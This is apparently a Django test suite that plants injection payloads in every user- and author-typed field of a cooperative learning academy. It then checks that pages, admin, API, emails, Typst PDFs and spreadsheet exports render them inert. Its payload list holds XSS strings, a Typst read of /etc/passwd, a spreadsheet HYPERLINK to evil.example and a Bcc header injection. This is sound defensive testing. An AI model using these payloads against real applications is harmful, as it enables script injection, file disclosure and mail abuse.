"""Issue #10, "must never happen": a payload in any author- or user-supplied text runs as script
wherever it is shown — page, admin, API, PDF, export, email.

One sweep. Each payload below is planted in every text a person types that the academy shows
again: the learner's name (the certificate name), a project idea (title, summary, cooperative
name), a cooperative's names and a member's name, course, module and lesson titles, every kind
of lesson body (markdown, rich text, headings, callouts, key takeaways, case studies, video
transcripts), a project plan's name, and a quiz's questions, answers, feedback and
explanations. Then every surface that shows them is rendered and checked:

* HTML pages of the site and of the editors' admin are *parsed* (``html.parser``): no script
  element, event-handler attribute or ``javascript:`` URL that carries the payload, and on the
  site no script at all but the academy's own files, no ``on*`` attribute, no script URL —
  and the payload must be there as text, so a surface that forgot to show the field fails;
* API answers are JSON, and their HTML fields pass the same parse;
* emails are text only (no HTML part), one-line subjects, the payload as typed in the body;
* PDFs (Typst): the payload prints literally, Typst executed nothing (no error, no file read);
* spreadsheets (CSV, XLSX): a cell that starts like a formula is text, never a formula.

A name the profile refuses (markup characters) is refused with a clear 400 and nothing saved;
it is then planted behind the validators' back (an old row, an import) and must still be inert.
"""

import csv
import io
import json
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pymupdf
import pytest
from django.conf import settings
from django.core import mail
from django.test import Client, TestCase
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook
from rest_framework.test import APIClient

from accounts.models import User
from accounts.validators import normalise_name, validate_person_name
from tests.factories.accounts import UserFactory

pytestmark = pytest.mark.django_db

#: In every payload: where it shows up in something executable, the sweep has found a hole.
MARK = "xss7351"

PAYLOADS = {
    "script-tag": f"<script>alert('{MARK}')</script>",
    "attribute-breakout": f"\"'><img src=x onerror=alert('{MARK}')>",
    "svg-onload": f"<svg onload=alert('{MARK}')>",
    "javascript-url": f"javascript:alert('{MARK}')",
    "markdown-link": f"[{MARK}](javascript:alert('{MARK}'))",
    "typst-code": f'#read("/etc/passwd") #panic("{MARK}")',
    "typst-breakout": f'] #panic("{MARK}") [ $x$ *b*',
    "spreadsheet-formula": f'=HYPERLINK("http://evil.example/{MARK}","x")',
    "header-injection": f"Tawada {MARK}\r\nBcc: evil@example.ma",
}
#: Rich text as stored by a programmatic import (not through the editor, which would clean it).
#: Well-formed: Wagtail's own editor cannot even open a rich text with an unclosed ``<img>``.
RAW_RICH_TEXT = (
    f"<p>rich {MARK}</p><script>alert('{MARK}')</script>"
    f"<p><a href=\"javascript:alert('{MARK}')\">rich link</a>"
    f'<img src="x" onerror="alert(\'{MARK}\')"/></p>'
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
JS_TYPES = {"", "text/javascript", "application/javascript", "module", "text/ecmascript"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc"}


# --- the HTML check ---------------------------------------------------------------------------


class _Scan(HTMLParser):
    """Collects script elements, attributes and the visible text of a page."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.scripts: list[tuple[dict, list[str]]] = []
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self._raw: str | None = None

    def handle_starttag(self, tag, attrs):
        attributes = {name.lower(): (value or "") for name, value in attrs}
        self.tags.append((tag, attributes))
        if tag == "script":
            self.scripts.append((attributes, []))
            self._raw = "script"
        elif tag == "style":
            self._raw = "style"

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag in ("script", "style"):
            self._raw = None

    def handle_endtag(self, tag):
        if tag in ("script", "style"):
            self._raw = None

    def handle_data(self, data):
        if self._raw == "script":
            self.scripts[-1][1].append(data)
        elif self._raw is None:
            self.text.append(data)


def _script_url(value: str) -> bool:
    squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
    return squeezed.startswith(("javascript:", "vbscript:", "data:text/html"))


def inert_html(html: str, *, ours_only: bool = True) -> str:
    """Fail if ``html`` would run a planted payload; return its visible text (whitespace
    collapsed). ``ours_only`` (the public site): no inline script, no ``on*`` attribute and no
    script URL at all; the editors' admin writes its own inline scripts, so there only what
    carries the payload is refused."""
    scan = _Scan()
    scan.feed(html)
    scan.close()
    problems = []
    for attributes, parts in scan.scripts:
        if attributes.get("type", "").strip().lower() not in JS_TYPES:
            continue  # data (application/json, ld+json): not run
        body, src = "".join(parts), attributes.get("src", "")
        if MARK in body or MARK in src:
            problems.append(f"script carrying the payload: {src or body[:120]!r}")
        elif ours_only and not (src.startswith(settings.STATIC_URL) and not body.strip()):
            problems.append(f"a script the academy did not write: {src or body[:120]!r}")
    for tag, attributes in scan.tags:
        for name, value in attributes.items():
            if name.startswith("on") and (ours_only or MARK in value):
                problems.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and _script_url(value) and (ours_only or MARK in value):
                problems.append(f"<{tag} {name}={value!r}>")
    assert not problems, "\n".join(problems)
    return " ".join("".join(scan.text).split())


def shown(text: str) -> str:
    """What a page shows of ``text`` (white space collapsed, as in ``inert_html``)."""
    return " ".join(text.split())


# --- the planted academy ----------------------------------------------------------------------


@dataclass
class Planted:
    payload: str
    learner: User
    manager: User
    staff: User
    name_refused: bool
    urls: dict = field(default_factory=dict)
    ids: dict = field(default_factory=dict)


def _name_is_refused(payload: str, *, raw: bool = False) -> bool:
    from django.core.exceptions import ValidationError

    try:  # as the profile's name field reads it (NFC, white space collapsed), or as sent
        validate_person_name(payload if raw else normalise_name(payload))
    except ValidationError:
        return True
    return False


def _lesson_body(payload: str) -> list[dict]:
    return [
        {"type": "heading", "value": {"text": payload, "level": "h2"}},
        {"type": "markdown", "value": f"{payload}\n\n**{MARK}** {PAYLOADS['markdown-link']}"},
        {"type": "rich_text", "value": RAW_RICH_TEXT},
        {"type": "callout", "value": {"kind": "tip", "title": payload, "body": payload}},
        {"type": "key_takeaways", "value": {"items": [payload]}},
        {
            "type": "case_study",
            "value": {"title": payload, "situation": payload, "question": payload},
        },
    ]


def _quiz_questions(payload: str) -> list[dict]:
    from tests.factories.quizzes import qid

    return [
        {
            "id": qid("xss/single"),
            "type": "single",
            "prompt": payload,
            "points": 1,
            "feedback": payload,
            "explanation": payload,
            "choices": [
                {"id": qid("xss/a"), "text": payload, "correct": True, "feedback": payload},
                {"id": qid("xss/b"), "text": "الجمع العام", "correct": False, "feedback": ""},
            ],
        },
        {
            "id": qid("xss/short"),
            "type": "short_text",
            "prompt": payload,
            "points": 1,
            "feedback": "",
            "explanation": payload,
            "accepted": ["الجمع العام"],
        },
    ]


def plant(payload: str, client: Client) -> Planted:
    from academy.demo import ensure_groups_and_workflow
    from cooperatives.models import Cooperative, Invitation, Membership
    from cooperatives.services import assign_course, create_link_invitation, invite_contact
    from courses.models import LessonPage
    from courses.services import enrol
    from progress.services import mark_item_complete
    from projectbank.models import ProjectIdea
    from projectbank.services import copy_template_to_plan, unlock_templates_for
    from quizzes.models import QuizAttempt
    from tests.factories.courses import build_course
    from tests.factories.projectbank import make_rule, make_template
    from tests.factories.quizzes import add_quiz, qid

    refused = _name_is_refused(payload)
    # --- authored content: course, module and lesson titles, every kind of body ---------------
    tree = build_course(slug="xss", modules=(1,), code="C7")
    course, module = tree.course, tree.modules[0]
    for page, title in ((course, payload), (module, payload)):
        page.title = title
        page.summary = payload
        page.save_revision().publish()
    lesson = LessonPage.objects.get(pk=tree.lessons[0].pk)
    lesson.title = payload
    lesson.body = _lesson_body(payload)
    lesson.save_revision().publish()
    quiz = add_quiz(module, slug="quiz-xss", title=payload, questions=_quiz_questions(payload))

    # --- the learner: the name typed on the profile (or planted when the profile refuses) -----
    learner = UserFactory(email="amina@example.ma", full_name="Amina")
    client.force_login(learner)
    with translation.override("ar"):
        answer = client.post(reverse("accounts:profile"), {"full_name": payload})
    learner.refresh_from_db()
    if refused:
        assert answer.status_code == 400
        assert learner.full_name == "Amina"  # nothing saved
        User.objects.filter(pk=learner.pk).update(full_name=payload)  # an old row, an import
        learner.refresh_from_db()
    else:
        assert answer.status_code == 302, answer.content
    assert learner.full_name == (payload if refused else normalise_name(payload))

    # --- the learner learns: quiz passed, lesson done → certificate (PDFs and email) ----------
    template = make_template("T1")
    make_rule(template, [course])
    enrol(user=learner, course=course)
    with TestCase.captureOnCommitCallbacks(execute=True):
        assert client.post(reverse("quizzes:start", args=[quiz.pk])).status_code == 302
    attempt = QuizAttempt.objects.get(user=learner)
    right = {f"q-{qid('xss/single')}": qid("xss/a"), f"q-{qid('xss/short')}": "الجمع العام"}
    attempt_url = reverse("quizzes:attempt", args=[attempt.pk])
    attempt_html = client.get(attempt_url).content.decode()
    with TestCase.captureOnCommitCallbacks(execute=True):
        submitted = client.post(reverse("quizzes:submit", args=[attempt.pk]), right)
    assert submitted.status_code == 302, submitted.content
    with TestCase.captureOnCommitCallbacks(execute=True):
        mark_item_complete(user=learner, item_key=lesson.translation_key, course=course)
    unlock_templates_for(user=learner, course_key=course.translation_key)
    from certificates.models import Certificate

    certificate = Certificate.objects.get(user=learner)

    # --- a plan named by the learner (through the API's rename) ------------------------------
    plan = copy_template_to_plan(user=learner, template=template)
    api = APIClient()
    api.force_authenticate(learner)
    renamed = api.patch(f"/api/v1/bank/plans/{plan.pk}/", {"name": payload}, format="json")
    assert renamed.status_code == 200, renamed.content
    plan.refresh_from_db()
    assert plan.name == payload

    # --- a project idea, through the site's form ----------------------------------------------
    with translation.override("ar"):
        proposed = client.post(
            reverse("projectbank:propose_idea"),
            {
                "proposer_kind": "cooperative",
                "cooperative_name": payload,
                "title": payload,
                "summary": f"{payload}\n{payload}",
                "region": "MA-09",
                "sector": "AGF",
                "target_group": "W",
                "investment": "1000",
                "jobs": "2",
            },
        )
    assert proposed.status_code == 302, proposed.content
    idea = ProjectIdea.objects.get(proposer=learner)

    # --- a cooperative named by staff, with the learner as member and an invited person -------
    cooperative = Cooperative.objects.create(
        name_ar=payload, name_fr=payload, register_number="RC-XSS", region="MA-09", sector="AGF"
    )
    manager = UserFactory(email="manager@example.ma", full_name="Manager")
    Membership.objects.create(
        cooperative=cooperative, user=manager, role=Membership.Role.MANAGER, state="active"
    )
    Membership.objects.create(cooperative=cooperative, user=learner, state="active")
    with TestCase.captureOnCommitCallbacks(execute=True):
        assign_course(cooperative=cooperative, course=course)
        invite_contact(
            cooperative=cooperative,
            contact="invited@example.ma",
            channel="email",
            full_name="" if refused else payload,
        )
    if refused:
        Invitation.objects.filter(contact="invited@example.ma").update(full_name=payload)
    join_token = create_link_invitation(cooperative=cooperative)

    staff = UserFactory(email="staff@example.ma", is_staff=True, is_superuser=True)
    trainers, _reviewers, teams = ensure_groups_and_workflow([course], tree.index)
    trainer = UserFactory(email="trainer@example.ma", full_name="Trainer")
    trainer.groups.add(trainers, teams[course.code])

    planted = Planted(
        payload=payload, learner=learner, manager=manager, staff=staff, name_refused=refused
    )
    planted.ids = {
        "course": course.pk,
        "module": module.pk,
        "lesson": lesson.pk,
        "quiz": quiz.pk,
        "attempt": attempt.pk,
        "plan": plan.pk,
        "idea": idea.pk,
        "cooperative": cooperative.pk,
        "certificate": certificate.pk,
        "code": certificate.grouped_code,
        "index": tree.index.pk,
        "course_key": course.translation_key,
    }
    planted.urls = {
        "attempt_html": attempt_html,
        "course": course.url,
        "lesson": lesson.url,
        "quiz": quiz.url,
        "catalogue": tree.index.url,
        "join": reverse("cooperatives:join", args=[join_token]),
    }
    planted.ids["trainer"] = trainer.pk
    return planted


@pytest.fixture(params=list(PAYLOADS), ids=list(PAYLOADS))
def planted(request, client):
    return plant(PAYLOADS[request.param], client)


def _get(client, url, *, status=200):
    response = client.get(url)
    assert response.status_code == status, (url, response.status_code)
    assert response["Content-Type"].startswith("text/html"), url
    return response.content.decode()


def _field_value(html: str, name: str) -> str | None:
    scan = _Scan()
    scan.feed(html)
    for tag, attributes in scan.tags:
        if tag in ("input", "textarea") and attributes.get("name") == name:
            return attributes.get("value")
    return None


def _sweep(client, pages: dict, payload: str, *, ours_only=True, must_show=True) -> dict:
    """Render every page, check it, and return its visible text by label."""
    texts = {}
    for label, url in pages.items():
        html = _get(client, url)
        try:
            texts[label] = inert_html(html, ours_only=ours_only)
        except AssertionError as exc:
            raise AssertionError(f"{label} ({url}): {exc}") from None
        if must_show:
            assert MARK in html, f"{label} ({url}) does not show the planted text"
    return texts


# --- the site ---------------------------------------------------------------------------------


def test_the_learners_pages_show_the_payload_as_text(planted, client):
    payload = shown(planted.payload)
    client.force_login(planted.learner)
    with translation.override("ar"):
        pages = {
            "catalogue": planted.urls["catalogue"],
            "course": planted.urls["course"],
            "lesson": planted.urls["lesson"],
            "quiz": planted.urls["quiz"],
            "result": reverse("quizzes:result", args=[planted.ids["attempt"]]),
            "my learning": reverse("progress:my_learning"),
            "my plans": reverse("projectbank:my_plans"),
            "plan": reverse("projectbank:plan", args=[planted.ids["plan"]]),
            "my ideas": reverse("projectbank:my_ideas"),
            "my certificates": reverse("certificates:mine"),
            "join a cooperative": planted.urls["join"],
        }
        texts = _sweep(client, pages, payload)
        attempt = planted.urls["attempt_html"]
        texts["attempt"] = inert_html(attempt)
        profile = _get(client, reverse("accounts:profile"))
        inert_html(profile)
    for label in (
        "catalogue", "course", "lesson", "quiz", "result", "attempt", "my learning",
        "my plans", "plan", "my ideas", "my certificates", "join a cooperative",
    ):  # fmt: skip
        assert payload in texts[label], f"{label}: the payload is not shown as typed"
    # Every body block of the lesson printed it; the rich text's own words survived cleaning.
    assert texts["lesson"].count(payload) >= 6
    assert f"rich {MARK}" in texts["lesson"] and "rich link" in texts["lesson"]
    # The quiz's feedback and explanations after the attempt, as typed.
    assert texts["result"].count(payload) >= 3
    assert shown(_field_value(profile, "full_name")) == payload


def test_the_public_verification_page_shows_the_payload_as_text(planted, client):
    with translation.override("fr"):
        url = reverse("certificates:verify", args=[planted.ids["code"]])
    text = _sweep(Client(), {"verify": url}, planted.payload)["verify"]
    assert shown(planted.payload) in text  # the course title, exactly as authored


def test_the_managers_and_trainers_pages_show_the_payload_as_text(planted, client):
    payload = shown(planted.payload)
    cooperative = planted.ids["cooperative"]
    client.force_login(planted.manager)
    with translation.override("ar"):
        texts = _sweep(
            client,
            {
                "dashboard": reverse("cooperatives:dashboard", args=[cooperative]),
                "invite": reverse("cooperatives:invite", args=[cooperative]),
                "assign": reverse("cooperatives:assign", args=[cooperative]),
            },
            payload,
        )
        # The member's name, the cooperative's name and the course title on the dashboard.
        assert texts["dashboard"].count(payload) >= 3
        assert payload in texts["invite"]  # the invited person's name
        client.force_login(User.objects.get(pk=planted.ids["trainer"]))
        url = reverse("cooperatives:course_analytics", args=[planted.ids["course_key"]])
        analytics = _sweep(client, {"analytics": url}, payload)["analytics"]
    assert payload in analytics  # lesson titles in the chart and its table


# --- the editors' admin -----------------------------------------------------------------------


def test_the_admin_shows_the_payload_as_text(planted, client):
    from projectbank.models import ProjectIdea

    client.force_login(planted.staff)
    ids = planted.ids
    pages = {
        "pages of the catalogue": f"/cms/pages/{ids['index']}/",
        "pages of the course": f"/cms/pages/{ids['course']}/",
        "pages of the module": f"/cms/pages/{ids['module']}/",
        "edit course": f"/cms/pages/{ids['course']}/edit/",
        "edit lesson": f"/cms/pages/{ids['lesson']}/edit/",
        "edit quiz": f"/cms/pages/{ids['quiz']}/edit/",
        "ideas to review": reverse("projectbank_idea_queue"),
        "ideas": reverse("wagtailsnippets_projectbank_projectidea:list"),
        "edit idea": reverse("wagtailsnippets_projectbank_projectidea:edit", args=[ids["idea"]]),
        "cooperatives": reverse("cooperatives_admin:index"),
        "edit cooperative": reverse("cooperatives_admin:edit", args=[ids["cooperative"]]),
        "memberships": reverse("memberships_admin:index"),
        "certificates": reverse("certificates_admin_list"),
        "certificate": reverse("certificates_admin_detail", args=[ids["certificate"]]),
        "quiz reports": reverse("quizzes_reports"),
        "item analysis": reverse("quizzes_item_analysis", args=[ids["quiz"]]),
        "users": "/cms/users/",
    }
    texts = _sweep(client, pages, planted.payload, ours_only=False, must_show=False)
    for label in ("pages of the catalogue", "pages of the module", "ideas to review", "ideas"):
        assert MARK in texts[label], f"{label}: the planted title is not listed"
    # Staff publish the idea: the new bank project shows the proposer's text as text.
    idea = ProjectIdea.objects.get(pk=ids["idea"])
    review = client.post(reverse("projectbank_idea_review", args=[idea.pk]), {"action": "publish"})
    assert review.status_code == 302
    idea.refresh_from_db()
    with translation.override("fr"):
        texts = _sweep(
            Client(),
            {
                "bank": reverse("projectbank:catalogue"),
                "bank project": reverse(
                    "projectbank:project", args=[idea.bank_project.external_id]
                ),
            },
            planted.payload,
        )
    assert shown(planted.payload) in texts["bank project"]
    admin_list = _sweep(
        client,
        {"bank projects": reverse("wagtailsnippets_projectbank_bankproject:list")},
        planted.payload,
        ours_only=False,
    )
    assert MARK in admin_list["bank projects"]


# --- names the profile refuses ----------------------------------------------------------------


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_a_name_with_markup_is_refused_with_a_clear_400_everywhere_it_is_typed(payload, client):
    from cooperatives.models import Invitation
    from tests.factories.cooperatives import make_cooperative

    learner = UserFactory(full_name="Amina")
    client.force_login(learner)
    api = APIClient()
    api.force_authenticate(learner)
    cooperative, manager, _ = make_cooperative()
    with translation.override("fr"):
        site = client.post(reverse("accounts:profile"), {"full_name": payload})
        app = api.patch("/api/v1/me/", {"full_name": payload}, format="json")
        client.force_login(manager)
        invited = client.post(
            reverse("cooperatives:invite", args=[cooperative.pk]),
            {"one-full_name": payload, "one-contact": "0612345678"},
        )
    learner.refresh_from_db()
    # The site's profile form collapses white space first (a pasted line break is no error);
    # the API and the invitation form check the name as sent.
    site_refuses, raw_refuses = _name_is_refused(payload), _name_is_refused(payload, raw=True)
    assert site.status_code == (400 if site_refuses else 302)
    assert app.status_code == (400 if raw_refuses else 200)
    assert invited.status_code == (400 if raw_refuses else 302)
    inert_html(site.content.decode())
    if site_refuses:
        assert site.context["form"].errors["full_name"]
    if raw_refuses:
        assert "full_name" in app.json()["error"]["fields"]
        assert not Invitation.objects.exists()
        assert "one-full_name" in invited.content.decode()
    if site_refuses and raw_refuses:
        assert learner.full_name == "Amina"  # nothing saved, by either way in
    else:
        assert learner.full_name == normalise_name(payload)


# --- the API ----------------------------------------------------------------------------------


def _strings(value, path=""):
    """(path, text) for every string in a JSON document."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield from _strings(item, f"{path}.{key}")
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from _strings(item, f"{path}[{index}]")
    elif isinstance(value, str):
        yield path, value


def _html_fields(value):
    """The HTML an app would put in a page: every ``html`` field and every rich-text block."""
    if isinstance(value, dict):
        if value.get("type") == "rich_text" and isinstance(value.get("value"), str):
            yield value["value"]
        for key, item in value.items():
            if key == "html" and isinstance(item, str):
                yield item
            else:
                yield from _html_fields(item)
    elif isinstance(value, list):
        for item in value:
            yield from _html_fields(item)


def _api_json(api, url):
    response = api.get(url)
    assert response.status_code == 200, (url, response.content[:300])
    assert response["Content-Type"] == "application/json", url
    assert response["X-Content-Type-Options"] == "nosniff", url
    return json.loads(response.content)


def test_the_api_gives_the_payload_as_data_and_only_clean_html(planted):
    from accounts.services import issue_token

    payload = planted.payload
    ids = planted.ids
    _token, key = issue_token(user=planted.learner, name="sweep")
    api = APIClient(HTTP_ACCEPT_LANGUAGE="ar")
    api.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    documents = {
        "me": "/api/v1/me/",
        "catalogue": "/api/v1/courses/",
        "course": f"/api/v1/courses/{ids['course']}/",
        "lesson": f"/api/v1/lessons/{ids['lesson']}/",
        "my learning": "/api/v1/me/learning/",
        "quiz": f"/api/v1/quizzes/{ids['quiz']}/",
        "result": f"/api/v1/attempts/{ids['attempt']}/result/",
        "plans": "/api/v1/bank/plans/",
        "plan": f"/api/v1/bank/plans/{ids['plan']}/",
        "certificates": "/api/v1/certificates/",
        "verify": f"/api/v1/certificates/verify/{ids['code']}/",
    }
    manager = APIClient(HTTP_ACCEPT_LANGUAGE="ar")
    manager.force_authenticate(planted.manager)
    seen = {}
    for label, url in documents.items():
        seen[label] = _api_json(api, url)
    for label, url in {
        "cooperatives": "/api/v1/cooperatives/",
        "dashboard": f"/api/v1/cooperatives/{ids['cooperative']}/dashboard/",
    }.items():
        seen[label] = _api_json(manager, url)
    for label, document in seen.items():
        for html in _html_fields(document):
            try:
                inert_html(html)
            except AssertionError as exc:
                raise AssertionError(f"{label}: {exc}") from None
    lesson_html = list(_html_fields(seen["lesson"]))
    assert len(lesson_html) >= 4 and any(f"rich {MARK}" in h for h in lesson_html)
    # Plain-text fields carry the text exactly as typed: data, for the app to show as text.
    for label in (
        "me", "catalogue", "course", "lesson", "my learning", "quiz", "result",
        "plans", "plan", "certificates", "verify", "cooperatives", "dashboard",
    ):  # fmt: skip
        texts = [text for _path, text in _strings(seen[label])]
        assert shown(payload) in [shown(t) for t in texts], f"{label}: the payload is not given"


# --- emails -----------------------------------------------------------------------------------


def test_emails_are_plain_text_with_one_line_subjects(planted):
    sent = {message.to[0]: message for message in mail.outbox}
    # The certificate issued (course title) and the cooperative's invitation (its name).
    assert {"amina@example.ma", "invited@example.ma"} <= set(sent)
    for address in ("amina@example.ma", "invited@example.ma"):
        message = sent[address]
        assert message.content_subtype == "plain"
        for content, mimetype in getattr(message, "alternatives", []):
            if mimetype == "text/html":
                inert_html(content)
        mime = message.message()
        assert "\n" not in mime["Subject"].replace("\n ", "")  # folding only, no new header
        assert mime.get_all("Bcc") is None and set(message.recipients()) == {address}
        assert MARK in message.body or MARK in message.subject
    assert shown(planted.payload) in shown(sent["invited@example.ma"].body)


# --- PDFs -------------------------------------------------------------------------------------


def _pdf_text(response) -> str:
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    content = b"".join(response.streaming_content) if response.streaming else response.content
    with pymupdf.open(stream=content, filetype="pdf") as document:
        return " ".join(" ".join(page.get_text() for page in document).split())


def test_pdfs_print_the_payload_and_typst_runs_none_of_it(planted, client):
    from certificates.models import Certificate

    certificate = Certificate.objects.get(pk=planted.ids["certificate"])
    client.force_login(planted.learner)
    texts = {}
    for language in ("fr", "en"):
        url = reverse("certificates:pdf", args=[planted.ids["code"], language])
        texts[language] = _pdf_text(client.get(url))
    with translation.override("fr"):
        texts["plan"] = _pdf_text(
            client.get(reverse("projectbank:plan_pdf", args=[planted.ids["plan"]]))
        )
    for label, text in texts.items():
        assert "root:" not in text and "/bin/" not in text, f"{label}: a file was read"
        assert "panicked" not in text, label
    payload = shown(planted.payload)
    assert payload in texts["fr"] and payload in texts["en"]  # the course title, as authored
    if certificate.learner_name:  # the name, made printable (markup characters removed)
        assert shown(certificate.learner_name) in texts["fr"]
    assert payload in texts["plan"]


# --- spreadsheets -----------------------------------------------------------------------------


def _lines(value) -> str:
    """Text with its line breaks as a spreadsheet keeps them (XLSX stores "\r\n" as "\n")."""
    return str(value).replace("\r\n", "\n")


def test_spreadsheets_keep_the_payload_as_text_never_a_formula(planted, client):
    payload = planted.payload
    risky = payload.startswith(FORMULA_START)
    client.force_login(planted.learner)
    with translation.override("fr"):
        plan = client.get(reverse("projectbank:plan_xlsx", args=[planted.ids["plan"]]))
    assert plan.status_code == 200
    workbook = load_workbook(io.BytesIO(plan.content))
    name = workbook["Inputs"]["B1"]
    assert _lines(name.value) == _lines(payload) and name.data_type == "s"
    assert name.quotePrefix == risky
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert MARK not in str(cell.value), f"{sheet.title}!{cell.coordinate}"

    client.force_login(planted.manager)
    cooperative = planted.ids["cooperative"]
    with translation.override("fr"):
        csv_response = client.get(reverse("cooperatives:export_csv", args=[cooperative]))
        xlsx_response = client.get(reverse("cooperatives:export_xlsx", args=[cooperative]))
    assert csv_response.status_code == xlsx_response.status_code == 200
    member = planted.learner.full_name  # as saved (the profile collapses white space)
    quoted = ("'" + member) if risky else member
    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert quoted in cells  # the member's name
    title = ("'" + payload) if risky else payload  # the course title, in the headers
    assert any(cell.startswith(title) for cell in rows[0]), rows[0]
    for cell in cells:
        assert not cell.startswith(FORMULA_START), cell
    sheet = load_workbook(io.BytesIO(xlsx_response.content)).active
    values = {}
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                values[_lines(cell.value)] = cell
    assert _lines(member) in values and values[_lines(member)].quotePrefix == risky
    headers = [c for text, c in values.items() if text.startswith(_lines(payload))]
    assert headers and all(c.quotePrefix == risky and c.data_type == "s" for c in headers)
